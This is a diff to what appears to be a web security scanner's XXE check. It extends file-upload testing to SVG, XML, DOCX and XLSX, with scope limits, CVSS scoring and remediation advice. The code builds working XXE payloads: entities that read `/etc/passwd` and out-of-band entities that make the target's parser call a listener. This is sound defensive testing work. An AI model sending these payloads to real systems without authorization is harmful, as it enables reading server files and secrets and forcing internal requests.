@@ -1,27 +1,36 @@
-import { claim, type Experiment } from '../../model/experiment.ts';
+import { callbackSpot } from '../../model/callbacks.ts';
+import type { Candidate } from '../../model/candidate.ts';
+import { claim, type Experiment, type Step } from '../../model/experiment.ts';
 import { ProbeError } from '../../model/probe-error.ts';
 import { firstMatch } from '../../proof/pattern.ts';
 import { newTrialValues } from '../../proof/template.ts';
 import { type CheckContext, defineCheck, notApplicable } from '../contract.ts';
 import { likeliest } from '../inputs/at-most.ts';
+import { callbackWaitMs, calledExperiment, expectAll } from '../inputs/callback-look.ts';
 import type { OpenedInput, UploadedFile } from '../inputs/input-request.ts';
 import { inputSteps, openInput, requestOfInput } from '../inputs/open-input.ts';
+import { kindNamed, parsedKinds } from './parsed-uploads.ts';
 import { contextOf } from './plant.ts';
 import { unixFiles } from './traversal-payloads.ts';
 import { maxForms, sending, type Taking, takingForms } from './upload-forms.ts';
 
-type ParsedUpload = Taking & { pattern: string; path: string };
+/** `kind` is a name of one of the kinds that are parsed. */
+type Parsed = Taking & { kind: string };
+type ParsedUpload = Parsed & { read?: { pattern: string; path: string } };
+type AwaitedUpload = { token: string; candidate: Candidate<ParsedUpload> };
 
-/** A drawing whose texts are an entity of the document. */
-const drawing = (declared: string): UploadedFile => ({
-  name: '‹nonce3›.svg',
-  type: 'image/svg+xml',
-  content: `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x ${declared}>]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><title>‹nonce›&x;</title><text y="9">&x;</text></svg>`,
-});
-const naming = (path: string): UploadedFile => drawing(`SYSTEM "file:///${path}"`);
-const asText = (path: string): UploadedFile => drawing(`"file:///${path}"`);
+const naming = (kind: string, path: string): UploadedFile =>
+  kindNamed(kind).file(`<!ENTITY x SYSTEM "file:///${path}">`);
+const asText = (kind: string, text: string): UploadedFile => kindNamed(kind).file(`<!ENTITY x "${text}">`);
+/** Both kinds of entities: programs resolve one and not the other. */
+const calling = (kind: string, host: string): UploadedFile => {
+  const url = `http://${callbackSpot(host, '‹callback›')}`;
+  return kindNamed(kind).file(`<!ENTITY % y SYSTEM "${url}">%y;<!ENTITY x SYSTEM "${url}">`);
+};
 
-/** A drawing that is sent as a file is read by a parser that opens what it names. Source: CWE-611, WSTG-INPV-07. */
+const maxKinds = 2;
+
+/** A drawing or a document that is sent as a file is read by a parser that opens what it names. Source: CWE-611, WSTG-INPV-07. */
 export const xxeUpload = defineCheck<ParsedUpload>({
   id: 'injection.xxe-upload',
   title: 'XML external entity injection (XXE) in a file upload',
@@ -37,29 +46,39 @@ export const xxeUpload = defineCheck<ParsedUpload>({
       return notApplicable('Files that are sent stay, which only a scope with "writes": "create" allows.');
     const forms = likeliest(context, takingForms(context), maxForms, 'forms that take a file');
     if (forms.length === 0) return notApplicable('No form takes a file.');
-    const found = [];
+    const found: Candidate<ParsedUpload>[] = [];
+    const awaited: AwaitedUpload[] = [];
     for (const form of forms) {
-      const parsed = await tryDrawings(context, form);
-      if (parsed) found.push(candidateFor(parsed));
+      const kinds = likeliest(context, parsedKinds(form.accept, form.called), maxKinds, 'kinds of files for a form');
+      for (const { name: kind } of kinds) {
+        const parsed = { ...form, kind };
+        const looked = await tryFiles(context, parsed);
+        if (looked?.read) found.push(candidateFor({ ...parsed, read: looked.read }));
+        if (looked?.read) break;
+        if (looked?.token) awaited.push({ token: looked.token, candidate: candidateFor(parsed) });
+      }
     }
-    return found;
+    return [...found, ...(await calledOf(context, awaited))];
   },
 
   async confirm(context, { data }) {
-    return data && experimentFor(data, await openInput(contextOf(context, data.identity), data.input));
+    return (
+      data &&
+      experimentFor(data, await openInput(contextOf(context, data.identity), data.input), context.callbacks?.host)
+    );
   },
 
   explain: {
     description:
-      'The form takes an SVG drawing, which the server reads with an XML parser that resolves external entities: the content of a file of the server that the drawing names comes back in the answer.',
+      'The form takes a drawing (SVG) or a document (XML, DOCX, XLSX), which the server reads with an XML parser that resolves external entities: the content of a file of the server that it names comes back in the answer, or the parser opens an address that it names.',
     impact:
       'Whoever may send a file can read files of the server: source code, settings with passwords and keys. Most parsers open addresses as well, so that the server can be made to ask internal services.',
     sends:
-      'With `writes: "create"`, sends each form that takes a file one SVG drawing whose entity is a text, and one that names `/etc/passwd`; where that shows the file, 4 more for the proof. They may stay, recorded before they are sent.',
+      'With `writes: "create"`, sends each form that takes a file up to two kinds that its field names (SVG, XML, DOCX, XLSX): one whose entity is a text, one that names `/etc/passwd`, one that names our listener; 4 more for a proof. They may stay, recorded before they are sent.',
     proves:
-      'The answer to the form has the form of that file; the same drawing whose entity is a text does not. Files of the server are read.',
+      'The answer to the form has the form of that file; the same whose entity is a text does not: files are read. Where only our listener is called, that the parser opens what is named is shown, and not that it can be read.',
     remedy:
-      'Turn off document types and external entities in the parser that reads drawings: `resolve_entities=False, no_network=True` or `defusedxml` (Python), `setFeature("http://apache.org/xml/features/disallow-doctype-decl", true)` (Java), no `LIBXML_NOENT` and `LIBXML_DTDLOAD` (PHP), `DtdProcessing.Prohibit` (.NET). Take no SVG where pictures are enough.',
+      'Turn off document types and external entities in the parser that reads what is sent, also in the parts of archives: `resolve_entities=False, no_network=True` or `defusedxml` (Python), `setFeature("http://apache.org/xml/features/disallow-doctype-decl", true)` (Java), no `LIBXML_NOENT` and `LIBXML_DTDLOAD` (PHP), `DtdProcessing.Prohibit` (.NET). Take no SVG where pictures are enough.',
     references: [
       'CWE-611: https://cwe.mitre.org/data/definitions/611.html',
       'OWASP XXE Prevention Cheat Sheet: https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html',
@@ -68,23 +87,50 @@ export const xxeUpload = defineCheck<ParsedUpload>({
   },
 });
 
-/** The first look is at the same drawing without anything external: a form that refuses it is sent no other. @throws ProbeError, ProofError */
-async function tryDrawings(context: CheckContext, taking: Taking): Promise<ParsedUpload | undefined> {
+/** The first look is at the same file without anything external: a form that refuses it is sent no other. @throws ProbeError, ProofError */
+async function tryFiles(
+  context: CheckContext,
+  parsed: Parsed,
+): Promise<{ read?: ParsedUpload['read']; token?: string } | undefined> {
   const [file] = unixFiles;
   if (!file) return undefined;
   const { path, pattern } = file;
-  const base = await answerTo(context, taking, asText(path));
+  const base = await answerTo(context, parsed, asText(parsed.kind, path));
   if (base === undefined || firstMatch(pattern, base)) return undefined;
-  const answer = await answerTo(context, taking, naming(path));
-  return answer !== undefined && firstMatch(pattern, answer) ? { ...taking, path, pattern } : undefined;
+  const answer = await answerTo(context, parsed, naming(parsed.kind, path));
+  if (answer !== undefined && firstMatch(pattern, answer)) return { read: { path, pattern } };
+  if (answer === undefined || !context.callbacks) return undefined;
+  const token = context.callbacks.newToken();
+  await answerTo(context, parsed, calling(parsed.kind, context.callbacks.host), token);
+  return { token };
+}
+
+/** Those that were called for, when all were waited for once; what is called later is left to the end of the run. */
+async function calledOf(context: CheckContext, awaited: readonly AwaitedUpload[]): Promise<Candidate<ParsedUpload>[]> {
+  if (awaited.length === 0) return [];
+  const calls = await context.callbacks?.wait(
+    awaited.map(({ token }) => token),
+    callbackWaitMs,
+  );
+  const isCalled = ({ token }: AwaitedUpload) => calls?.some((call) => call.token === token) ?? false;
+  expectAll(
+    context,
+    awaited.filter((each) => !isCalled(each)),
+  );
+  return awaited.filter(isCalled).map(({ candidate }) => candidate);
 }
 
 /** Undefined where the form refuses the file. */
-async function answerTo(context: CheckContext, taking: Taking, file: UploadedFile): Promise<string | undefined> {
+async function answerTo(
+  context: CheckContext,
+  taking: Taking,
+  file: UploadedFile,
+  token = '',
+): Promise<string | undefined> {
   const sender = contextOf(context, taking.identity);
   try {
     const opened = await openInput(sender, taking.input);
-    const values = newTrialValues(context.nonce);
+    const values = newTrialValues(context.nonce, () => token);
     const request = await requestOfInput(sender, opened, sending(taking, opened, file), values);
     return await context.store?.(taking.identity, request, ({ status, text }) =>
       Promise.resolve(status === 413 || status === 415 ? undefined : text),
@@ -95,28 +141,47 @@ async function answerTo(context: CheckContext, taking: Taking, file: UploadedFil
   }
 }
 
-function candidateFor(parsed: ParsedUpload) {
-  const { input, identity, path } = parsed;
+function candidateFor(parsed: ParsedUpload): Candidate<ParsedUpload> {
+  const { input, identity, kind, read } = parsed;
   const who = identity === '' ? 'Anybody' : `The test identity "${identity}"`;
+  const needs = identity === '' ? 'N' : 'L';
   return {
     location: { url: input.url, method: 'POST', parameter: input.parameter, parameterIn: 'body' as const },
     route: input.route,
-    detail: `${who} sends an SVG drawing that names the file /${path}, and the answer shows that file.`,
-    cvss: `CVSS:3.1/AV:N/AC:L/PR:${identity === '' ? 'N' : 'L'}/UI:N/S:U/C:H/I:N/A:N`,
+    ...(read
+      ? {
+          detail: `${who} sends ${kind} that names the file /${read.path}, and the answer shows that file.`,
+          cvss: `CVSS:3.1/AV:N/AC:L/PR:${needs}/UI:N/S:U/C:H/I:N/A:N`,
+        }
+      : {
+          detail: `${who} sends ${kind} that names a listener of the audit, and the parser called it; that files can be read was not shown.`,
+          cvss: `CVSS:3.1/AV:N/AC:L/PR:${needs}/UI:N/S:C/C:L/I:N/A:N`,
+        }),
     data: parsed,
   };
 }
 
-function experimentFor(parsed: ParsedUpload, input: OpenedInput): Experiment {
-  const { identity, pattern, path } = parsed;
-  const shown = claim('body', 'matches', pattern, 'The answer has the form of the file.');
+function experimentFor(parsed: ParsedUpload, input: OpenedInput, host = ''): Experiment {
+  const { read, kind, identity } = parsed;
+  const asSender = (step: Step): Step => ('http' in step && identity !== '' ? { ...step, identity } : step);
+  const action = (file: UploadedFile) => sending(parsed, input, file);
+  if (!read) {
+    const way = { action: action(calling(kind, host)), inert: action(asText(kind, '‹callback›')) };
+    const { steps, control } = calledExperiment(
+      { input, way },
+      {
+        sent: 'The file names an address of the listener with a word that nobody has been told.',
+        called: 'The parser calls that address.',
+        control: 'With the word as a text of the file there is nothing to open.',
+      },
+    );
+    return { steps: steps.map(asSender), control: control.map(asSender) };
+  }
+  const shown = claim('body', 'matches', read.pattern, 'The answer has the form of the file.');
   const send = (file: UploadedFile, note: string) =>
-    inputSteps(input, sending(parsed, input, file), { note, expect: [shown] }).map((step) => ({
-      ...step,
-      ...(identity === '' ? {} : { identity }),
-    }));
+    inputSteps(input, action(file), { note, expect: [shown] }).map(asSender);
   return {
-    steps: send(naming(path), 'The drawing names a file, and the parser opens it.'),
-    control: send(asText(path), 'The same drawing whose entity is a text opens nothing.'),
+    steps: send(naming(kind, read.path), 'What is sent names a file, and the parser opens it.'),
+    control: send(asText(kind, read.path), 'The same whose entity is a text opens nothing.'),
   };
 }
